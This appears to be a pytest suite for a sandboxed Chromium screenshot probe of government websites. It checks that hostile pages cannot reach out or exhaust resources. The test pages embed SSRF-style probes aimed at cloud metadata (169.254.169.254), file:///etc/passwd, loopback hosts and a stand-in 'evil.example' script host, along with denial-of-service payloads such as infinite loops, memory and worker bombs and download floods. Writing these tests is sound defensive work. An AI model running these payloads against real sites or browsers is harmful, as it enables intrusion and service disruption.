"""The browser itself, on real pages: what comes out, what stays inside, and what hostile pages cannot do."""

from __future__ import annotations

import asyncio
import io
import os
import signal
import socket
import time
from pathlib import Path

import pytest
from aiohttp import web
from PIL import Image

from socd.eyes import Chromium, State
from socd.eyes.process import tree
from socd.model.shot import Tried
from tests.eyes.conftest import Portal, serving, soon

PLAIN = "<!doctype html><title>Sở Thử nghiệm</title><body><h1>Xin chào</h1>"


def tried(shot_tried: tuple[Tried, ...], host: str) -> Tried | None:
    return next((one for one in shot_tried if one.host == host), None)


async def test_a_page_as_a_visitor_sees_it(portal: Portal, eyes: Chromium) -> None:
    portal.pages["/"] = PLAIN + "<p id=p></p><script>p.textContent = 'viết ' + 'bởi script'</script>" + "<br>" * 300
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert shot.fault is None and shot.limits == () and shot.status == 200
    assert shot.title == "Sở Thử nghiệm"
    assert "viết bởi script" in shot.dom.decode() and b"vi\xe1\xba\xbft b\xe1\xbb\x9fi" not in shot.source
    assert shot.source.decode().startswith("<!doctype html><title>Sở")
    image = Image.open(io.BytesIO(shot.picture))
    assert image.width == 1366 and 900 < image.height <= 4096
    assert [one for one in shot.tried if not one.allowed] == []
    assert eyes.cost.shots == 1 and eyes.cost.cpu < 20 and eyes.cost.peak < 600e6


async def test_frames_and_shadow_trees_are_read_too(portal: Portal, eyes: Chromium) -> None:
    portal.pages["/"] = PLAIN + (
        """<iframe srcdoc="<p>trong khung</p>"></iframe><div id=d></div>"""
        """<script>d.attachShadow({mode:'open'}).innerHTML = '<p>trong bóng</p>'</script>"""
    )
    dom = (await eyes.shoot(portal.site(), "http://own.gov.vn/")).dom.decode()
    assert "trong khung" in dom and "<p>trong bóng</p>" in dom


async def test_what_the_page_redefines_does_not_reach_the_reader(portal: Portal, eyes: Chromium) -> None:
    portal.pages["/"] = PLAIN + (
        """<script>Object.defineProperty(Element.prototype, 'outerHTML', {get: () => 'all is well'});
        document.querySelectorAll = () => []; JSON.stringify = () => 'x'; String = () => 'y'</script><p>sự thật"""
    )
    assert "sự thật" in (await eyes.shoot(portal.site(), "http://own.gov.vn/")).dom.decode()


async def test_no_request_leaves_the_site(portal: Portal, other: Portal, eyes: Chromium) -> None:
    """Every way out a script has. `other` listens on 127.0.0.1 and must not hear a word; nor may a UDP socket."""
    ears = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ears.bind(("127.0.0.1", 0))
    ears.setblocking(False)
    udp = ears.getsockname()[1]
    portal.pages["/"] = (
        PLAIN
        + f"""<link rel=preconnect href="http://127.0.0.1:{other.port}/">
      <link rel=dns-prefetch href="//rebind.example"><link rel=prefetch href="http://127.0.0.1:{other.port}/prefetch">
      <script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["http://127.0.0.1:{other.port}/spec"]}}]}}</script>
      <form id=f target=t method=post action="http://127.0.0.1:{other.port}/form"></form><iframe name=t></iframe>
      <script>
      const urls = ['http://127.0.0.1:{other.port}/a', 'http://localhost:{other.port}/b', 'http://[::1]:{other.port}/c',
        'http://169.254.169.254/latest/meta-data/', 'http://192.168.1.1/', 'file:///etc/passwd', 'http://own.gov.vn:22/',
        'https://evil.example/x.js', 'http://127.1:{other.port}/d', 'http://2130706433:{other.port}/e', 'ftp://127.0.0.1/'];
      for (const url of urls) {{
        fetch(url, {{mode: 'no-cors'}}).catch(() => 0); new Image().src = url;
        try {{ navigator.sendBeacon(url, 'x') }} catch (e) {{}}
        for (const tag of ['iframe', 'script', 'embed', 'video']) {{
          const e = document.createElement(tag); e.src = url; document.body.append(e) }} }}
      try {{ new WebSocket('ws://127.0.0.1:{other.port}/ws') }} catch (e) {{}}
      try {{ new EventSource('http://127.0.0.1:{other.port}/es') }} catch (e) {{}}
      const frame = document.createElement('iframe'); document.body.append(frame);
      for (const world of [window, frame.contentWindow]) try {{
        const peer = new world.RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp}'}},
          {{urls: 'turn:127.0.0.1:{other.port}?transport=tcp', username: 'u', credential: 'c'}}]}});
        peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o)) }} catch (e) {{}}
      try {{ new WebTransport('https://127.0.0.1:{udp}/') }} catch (e) {{}}
      const worker = new Worker(URL.createObjectURL(new Blob([
        "fetch('http://127.0.0.1:{other.port}/worker', {{mode: 'no-cors'}})"])));
      f.submit(); document.title = 'đến cuối'; open('http://127.0.0.1:{other.port}/popup')
      </script>"""
    )
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert shot.fault is None and "Xin chào" in shot.dom.decode()
    assert shot.title == "đến cuối", "the script ran to its end"
    assert other.asked == []
    with pytest.raises(BlockingIOError):
        ears.recv(100)
    ears.close()
    refused = {one.host for one in shot.tried if not one.allowed}
    assert {"127.0.0.1", "localhost", "169.254.169.254", "192.168.1.1", "evil.example"} <= refused
    assert any(host.startswith("file:") for host in refused)
    evil = tried(shot.tried, "evil.example")
    assert evil and "script" in evil.uses and "is no host of site own" in evil.why


async def test_a_name_that_turns_to_loopback_is_refused(other: Portal, eyes: Chromium) -> None:
    """DNS rebinding: the site's own name, but outside its networks."""

    async def rebound(_host: str) -> list[str]:
        return ["127.0.0.1"]

    from socd.fetch import Fetcher
    from socd.model.inventory import Site

    other.pages["/"] = PLAIN
    site = Site("s", f"http://rebind.gov.vn:{other.port}/", "s", "u", "u")
    async with Fetcher(resolver=rebound) as fetch:
        shot = await Chromium(fetch.reach, seconds=12).shoot(site, site.url)
    assert other.asked == [] and not any(one.allowed for one in shot.tried)
    assert (shot.fault and shot.fault.reason == "out-of-scope") or shot.status == 403


async def test_a_script_that_takes_the_visitor_away(portal: Portal, other: Portal, eyes: Chromium) -> None:
    portal.pages["/"] = PLAIN + f"<script>location = 'http://127.0.0.1:{other.port}/casino'</script>"
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert shot.left == f"http://127.0.0.1:{other.port}/casino" and other.asked == []
    assert "Xin chào" in shot.dom.decode() and shot.picture, "the page it wanted to leave is still there to be seen"


async def test_a_redirect_inside_is_refused(portal: Portal, other: Portal, eyes: Chromium) -> None:
    async def away(_request: web.Request) -> web.StreamResponse:
        return web.Response(status=302, headers={"Location": f"http://127.0.0.1:{other.port}/internal"})

    portal.pages["/"] = away
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert other.asked == [] and shot.left and shot.left.endswith("/internal")


HOSTILE = {  # each a page of its own
    "loop": "<script>while (true) {}</script>",
    "late-loop": "<script>onload = () => setTimeout(() => { while (true) {} }, 100)</script>",
    "alerts": "<script>for (;;) alert(1)</script>",
    "alerts-of-a-frame": "<iframe></iframe><script>for (let i = 0; i < 500; i++) frames[0].confirm(i)</script>",
    "windows": "<script>for (let i = 0; i < 2000; i++) open('/?' + i)</script>",
    "one-tag": "<div>" * 2_000_000,
    "canvas": "<script>for (let i = 0; i < 40; i++) { const c = document.createElement('canvas'); c.width = c.height ="
    " 16000; c.getContext('2d').fillRect(0, 0, 16000, 16000); document.body.append(c) }</script>",
    "memory": "<script>const held = []; for (;;) held.push(new Uint8Array(1e7).fill(7))</script>",
    "strings": "<script>let s = 'x'; for (;;) s += s</script>",
    "workers": "<script>const u = URL.createObjectURL(new Blob(['for(;;){}']));"
    "for (let i = 0; i < 200; i++) new Worker(u)</script>",
    "frames": "<script>(function more() { for (let i = 0; i < 200; i++) { const f = document.createElement('iframe');"
    "f.srcdoc = '<script>for(;;){}<' + '/script>'; document.body.append(f) } })()</script>",
    "leave-trap": "<script>onbeforeunload = e => { e.preventDefault(); return 'stay' }; "
    "onunload = () => { for (;;) {} }; onload = () => location.reload()</script>",
    "reloads": "<script>location.href = '/?' + Math.random()</script>",
    "history": "<script>for (;;) history.pushState({}, '', '/?' + Math.random())</script>",
    "service-worker": "<script>navigator.serviceWorker && navigator.serviceWorker.register('/sw.js')</script>",
    "downloads": "<script>setInterval(() => { const a = document.createElement('a'); a.href = '/endless'; "
    "a.download = 'x'; document.body.append(a); a.click() }, 50)</script>",
    "wide": "<div style='width:9000000px;height:9000000px;background:linear-gradient(red,blue)'></div>",
    "permissions": "<script>Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => 0);"
    "navigator.mediaDevices && navigator.mediaDevices.getUserMedia({video: true}).catch(() => 0); print()</script>",
}


# One of each manner at every run; all of them belong to the long proofs.
AT_EVERY_RUN = frozenset({"late-loop", "alerts", "memory", "workers", "downloads", "service-worker"})


@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=() if name in AT_EVERY_RUN else pytest.mark.prove) for name in HOSTILE]
)
async def test_hostile_pages_are_bounded(name: str, portal: Portal, eyes: Chromium) -> None:
    async def endless(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Disposition": "attachment"})
        await response.prepare(request)
        for _ in range(1000):
            await response.write(b"x" * 100_000)
            await asyncio.sleep(0.01)
        return response

    portal.pages |= {"/": PLAIN + HOSTILE[name], "/endless": endless, "/sw.js": "for (;;) {}"}
    eyes.memory, eyes.seconds = 700, 7
    began = time.monotonic()
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert time.monotonic() - began < 15
    assert eyes.cost.peak < 1500e6
    if shot.fault:
        assert shot.fault.reason in ("browser-memory", "too-slow", "browser-gone") and shot.limits
    else:
        assert shot.picture or shot.dom
    assert all(one.host == "own.gov.vn" for one in shot.tried if one.allowed)
    if name in ("loop", "alerts", "history"):
        assert "time" in shot.limits and b"Xin ch" in shot.dom
    if name == "memory":
        assert "memory" in shot.limits
    if name in ("service-worker", "permissions", "windows", "alerts-of-a-frame"):
        assert shot.fault is None and "Xin chào" in shot.dom.decode()


async def test_a_server_that_never_ends_its_page(portal: Portal, eyes: Chromium) -> None:
    async def slow(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/html; charset=utf-8"})
        await response.prepare(request)
        await response.write((PLAIN + "<p>" + "đầu trang " * 300).encode())
        await asyncio.sleep(60)
        return response

    portal.pages["/"] = slow
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert "time" in shot.limits and "đầu trang" in shot.dom.decode()


async def test_two_sites_at_once_keep_to_themselves(portal: Portal, other: Portal, eyes: Chromium) -> None:
    eyes.parallel = 2
    portal.pages["/"] = PLAIN + "<p>một</p><img src='http://two.gov.vn/x'>"
    other.pages["/"] = PLAIN + "<p>hai</p><img src='http://one.gov.vn/x'>"
    one, two = await asyncio.gather(
        eyes.shoot(portal.site("one"), "http://one.gov.vn/"), eyes.shoot(other.site("two"), "http://two.gov.vn/")
    )
    assert "một" in one.dom.decode() and "hai" in two.dom.decode()
    assert all(line.startswith("one.gov.vn") for line in portal.asked)
    assert all(line.startswith("two.gov.vn") for line in other.asked)


async def test_a_browser_killed_in_the_middle(portal: Portal, eyes: Chromium) -> None:
    waiting = asyncio.Event()

    async def wait(request: web.Request) -> web.StreamResponse:
        waiting.set()
        await asyncio.sleep(30)
        return web.Response()

    portal.pages["/"] = wait
    shooting = asyncio.create_task(eyes.shoot(portal.site(), "http://own.gov.vn/"))
    await waiting.wait()
    browser = next(
        pid for pid in tree(os.getpid()) if b"--user-data-dir" in _line(pid) and b"--type=" not in _line(pid)
    )
    os.kill(browser, signal.SIGKILL)
    shot = await shooting
    assert shot.fault and shot.fault.reason == "browser-gone"


async def test_handlers_of_crashes_do_not_outlive_the_browser(portal: Portal, eyes: Chromium) -> None:
    """They stand outside its tree and session. One held a page's process, and was held by it, for good."""
    waiting = asyncio.Event()

    async def wait(request: web.Request) -> web.StreamResponse:
        waiting.set()
        await asyncio.sleep(30)
        return web.Response()

    portal.pages["/"] = wait
    shooting = asyncio.create_task(eyes.shoot(portal.site(), "http://own.gov.vn/"))
    await waiting.wait()
    mine = f"socd-eyes-{os.getpid()}-".encode()
    everything = {int(path.name) for path in Path("/proc").glob("[0-9]*")}
    handlers = [pid for pid in everything - set(tree(os.getpid())) if mine in _line(pid)]
    if not handlers:
        shooting.cancel()
        pytest.skip("this browser starts no handlers of crashes")
    for pid in handlers:
        os.kill(pid, signal.SIGSTOP)  # as good as held: it will not end of itself
    shooting.cancel()
    with pytest.raises(asyncio.CancelledError):
        await shooting
    assert not [pid for pid in handlers if mine in _line(pid)]


def test_a_process_that_ends_while_its_tree_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    def gone(path: str | Path = ".") -> object:
        raise FileNotFoundError(2, "No such file or directory", str(path))

    monkeypatch.setattr(os, "scandir", gone)
    assert list(tree(os.getpid())) == [os.getpid()]


async def test_a_look_that_is_cancelled_takes_its_browser_with_it(portal: Portal, eyes: Chromium) -> None:
    waiting = asyncio.Event()

    async def wait(request: web.Request) -> web.StreamResponse:
        waiting.set()
        await asyncio.sleep(30)
        return web.Response()

    portal.pages["/"] = wait
    shooting = asyncio.create_task(eyes.shoot(portal.site(), "http://own.gov.vn/"))
    await waiting.wait()
    shooting.cancel()
    with pytest.raises(asyncio.CancelledError):
        await shooting


async def test_the_browser_never_outlives_us(portal: Portal, eyes: Chromium, tmp_path: Path) -> None:
    """socd itself killed hard: the browser ends by itself, and the next start removes what it left."""
    import sys

    async def wait(request: web.Request) -> web.StreamResponse:
        await asyncio.sleep(30)
        return web.Response()

    portal.pages["/"] = wait
    script = tmp_path / "one.py"
    script.write_text(
        f"""
import asyncio
from socd.eyes import Chromium
from socd.fetch import Fetcher
from socd.model.inventory import Connect, Site
async def main():
    site = Site("own", "http://own.gov.vn/", "o", "u", "u", connect=Connect("127.0.0.1", {{80: {portal.port}}}),
                networks=("127.0.0.0/8",))
    async with Fetcher() as fetch:
        await Chromium(fetch.reach).shoot(site, site.url)
asyncio.run(main())
"""
    )
    child = await asyncio.create_subprocess_exec(sys.executable, str(script))
    assert await soon(lambda: bool(portal.asked), 20)
    browsers = [pid for pid in tree(child.pid) if b"chromium" in _line(pid)]
    assert len(browsers) > 2
    child.kill()
    await child.wait()
    assert await soon(lambda: not any(b"chromium" in _line(pid) for pid in browsers))
    from socd.eyes.process import sweep

    folder = Path(__import__("tempfile").gettempdir())
    assert list(folder.glob(f"socd-eyes-{child.pid}-*"))
    sweep()
    assert not list(folder.glob(f"socd-eyes-{child.pid}-*"))


async def test_without_a_browser_there_is_a_word_not_an_error(portal: Portal, tmp_path: Path) -> None:
    from socd.fetch import Fetcher

    async with Fetcher() as fetch:
        absent = Chromium(fetch.reach, program=tmp_path / "none")
        assert absent.readiness().state is State.ABSENT and "chromium" in absent.readiness().mend
        shot = await absent.shoot(portal.site(), "http://own.gov.vn/")
        assert shot.fault and shot.fault.reason == "no-browser"
        assert Chromium(fetch.reach, enabled=False).readiness().state is State.OFF


async def test_a_browser_that_does_not_start_is_asked_once_an_hour(portal: Portal, tmp_path: Path) -> None:
    from socd.fetch import Fetcher

    def program(words: str) -> Path:
        path = tmp_path / "browser"
        path.write_text(f"#!/bin/sh\necho run >> {tmp_path}/runs\necho '{words}' >&2\nexit 1\n")
        path.chmod(0o755)
        return path

    tmp_path.chmod(0o777)
    for folder in tmp_path.parents:
        if folder.stat().st_uid == os.geteuid() and folder != Path("/tmp"):
            folder.chmod(folder.stat().st_mode | 0o005)
    async with Fetcher() as fetch:
        eyes = Chromium(fetch.reach, program=program("FATAL: No usable sandbox! Update your kernel"))
        for _ in range(3):
            shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
            assert shot.fault and shot.fault.reason == "no-browser"
        assert eyes.readiness().state is State.NO_SANDBOX and "usable sandbox" in eyes.readiness().detail
        assert (tmp_path / "runs").read_text().count("run") == 1
        broken = Chromium(fetch.reach, program=program("libfoo.so: cannot open"))
        assert (await broken.check()).state is State.BROKEN


async def test_the_sandbox_is_on_and_nobody_is_root(portal: Portal, eyes: Chromium) -> None:
    seen: list[tuple[bytes, str]] = []

    async def note(request: web.Request) -> web.StreamResponse:
        for pid in tree(os.getpid()):
            line = _line(pid)
            if b"--user-data-dir" in line or b"--type=" in line:
                status = Path(f"/proc/{pid}/status").read_text()
                seen.append((line, status))
        return web.Response(text=PLAIN, content_type="text/html")

    portal.pages["/"] = note
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert shot.fault is None
    assert seen and not any(b"--no-sandbox" in line for line, _ in seen)
    for line, status in seen:
        uid = next(row.split()[1] for row in status.splitlines() if row.startswith("Uid:"))
        assert uid != "0", line[:100]
    renderers = [status for line, status in seen if b"--type=renderer" in line]
    assert renderers and all("Seccomp:\t2" in status for status in renderers)


def _line(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


async def test_the_proxy_counts_what_goes_through(portal: Portal, eyes: Chromium) -> None:
    """A page that loads without end is cut at the allowance."""

    async def big(request: web.Request) -> web.StreamResponse:
        return web.Response(body=b"x" * 3_000_000)

    portal.pages |= {
        "/": PLAIN + "<script>for (let i = 0; i < 60; i++) fetch('/big?' + i).then(r => r.text())</script>",
        "/big": big,
    }
    shot = await eyes.shoot(portal.site(), "http://own.gov.vn/")
    assert "bytes" in shot.limits
    assert sum("/big" in line for line in portal.asked) < 60


@pytest.fixture
def certificate(tmp_path: Path) -> tuple[Path, Path]:
    """For a name that is not the site's."""
    import subprocess

    key, cert = tmp_path / "k.pem", tmp_path / "c.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", cert, "-days", "1",
         "-subj", "/CN=wrong.example"], check=True, capture_output=True,
    )  # fmt: skip
    return cert, key


async def test_any_certificate_will_do(eyes: Chromium, certificate: tuple[Path, Path]) -> None:
    """Another probe judges certificates; the page behind a bad one must be seen."""
    import ssl

    from socd.model.inventory import Connect, Site

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*certificate)
    async with serving() as portal:
        portal.pages["/"] = PLAIN
        app = web.Application()
        app.router.add_get("/", portal.answer)
        runner = web.AppRunner(app)
        await runner.setup()
        plug = socket.create_server(("127.0.0.1", 0))
        await web.SockSite(runner, plug, ssl_context=context).start()
        connect = Connect("127.0.0.1", {443: plug.getsockname()[1]})
        site = Site("s", "https://s.gov.vn/", "s", "u", "u", connect=connect, networks=("127.0.0.0/8",))
        shot = await eyes.shoot(site, site.url)
        await runner.cleanup()
    assert shot.fault is None and shot.title == "Sở Thử nghiệm"


# As `RestrictNamespaces=yes` of the shipped unit does it: a seccomp filter that lets nobody make a user namespace.
CONFINED = r"""
import asyncio, ctypes, struct, sys
def row(code, yes, no, value): return struct.pack("HBBI", code, yes, no, value)
LOAD, EQUAL, SET, RETURN = 0x20, 0x15, 0x45, 0x06
rows = [row(LOAD, 0, 0, 0), row(EQUAL, 0, 1, 272), row(RETURN, 0, 0, 0x50001),  # unshare: EPERM
        row(EQUAL, 0, 1, 435), row(RETURN, 0, 0, 0x50000 | 38),                 # clone3: ENOSYS
        row(EQUAL, 0, 3, 56), row(LOAD, 0, 0, 16),                              # clone with CLONE_NEWUSER: EPERM
        row(SET, 0, 1, 0x10000000), row(RETURN, 0, 0, 0x50001), row(RETURN, 0, 0, 0x7fff0000)]
code = ctypes.create_string_buffer(b"".join(rows))
program = ctypes.create_string_buffer(struct.pack("HxxxxxxP", len(rows), ctypes.addressof(code)))
libc = ctypes.CDLL(None, use_errno=True)
assert libc.prctl(38, 1, 0, 0, 0) == 0 and libc.prctl(22, 2, program, 0, 0) == 0, ctypes.get_errno()
from socd.eyes import Chromium
async def nowhere(site, host, port): return []
async def main():
    for sandbox in (True, False):
        eyes = Chromium(nowhere, sandbox=sandbox)
        ready = await eyes.check()
        print(ready.state, ready.text.en, "|", ready.detail)
asyncio.run(main())
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the filter names system calls by their x86-64 numbers")
async def test_without_namespaces_there_is_no_picture_rather_than_no_sandbox(eyes: Chromium) -> None:
    import sys

    child = await asyncio.create_subprocess_exec(sys.executable, "-c", CONFINED, stdout=asyncio.subprocess.PIPE)
    out, _ = await child.communicate()
    first, second = out.decode().splitlines()
    assert first.startswith("no-sandbox Chromium cannot have its sandbox"), first
    assert second.startswith("ready the browser runs WITHOUT its sandbox"), "only where the office says so"
